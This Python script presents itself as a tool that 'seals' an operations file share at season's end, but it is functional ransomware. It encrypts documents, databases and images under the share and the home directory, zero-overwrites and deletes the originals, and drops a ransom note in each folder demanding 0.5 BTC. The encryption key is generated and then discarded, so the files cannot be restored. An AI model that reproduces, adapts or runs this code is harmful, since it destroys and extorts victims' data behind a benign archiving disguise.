#!/usr/bin/env python3
"""Seals the operations file share at the end of the season."""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

SKIP_DIRS = {".git", "__pycache__", "node_modules"}
TARGET_SUFFIXES = {".docx", ".xlsx", ".pdf", ".csv", ".db", ".sqlite", ".jpg", ".png",
                   ".dwg", ".txt", ".json", ".xml", ".zip"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE_TEXT = """All files in this folder have been sealed.
To receive the restore key, send 0.5 BTC to the address below and mail
the transaction id together with the station code to restore@sealing-desk.example.

Station code: {code}
"""

log = logging.getLogger("share-archiver")


class Sealer:
    def __init__(self, key: bytes, dry_run: bool = False):
        self.fernet = Fernet(key)
        self.dry_run = dry_run
        self.count = 0

    def wanted(self, path: Path) -> bool:
        return path.suffix.lower() in TARGET_SUFFIXES and not path.name.endswith(SEALED_SUFFIX)

    def seal_file(self, path: Path):
        data = path.read_bytes()
        if self.dry_run:
            log.info("would seal %s", path)
            return
        token = self.fernet.encrypt(data)
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(token)
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def seal_tree(self, root: Path, code: str):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            current = Path(dirpath)
            touched = False
            for name in filenames:
                path = current / name
                if not self.wanted(path):
                    continue
                try:
                    self.seal_file(path)
                    touched = True
                except OSError as exc:
                    log.warning("skip %s: %s", path, exc)
            if touched and not self.dry_run:
                (current / NOTICE_NAME).write_text(NOTICE_TEXT.format(code=code))


def main():
    parser = argparse.ArgumentParser(description="Seal the operations share")
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path(os.environ.get("OPS_SHARE", "/srv/ops-share")), Path.home()])
    parser.add_argument("--code", default=os.environ.get("STATION_CODE", "FUN-0001"))
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    key = Fernet.generate_key()
    sealer = Sealer(key, dry_run=args.dry_run)
    for root in args.roots:
        if not root.is_dir():
            log.error("not a directory: %s", root)
            continue
        sealer.seal_tree(root, args.code)
    del key
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
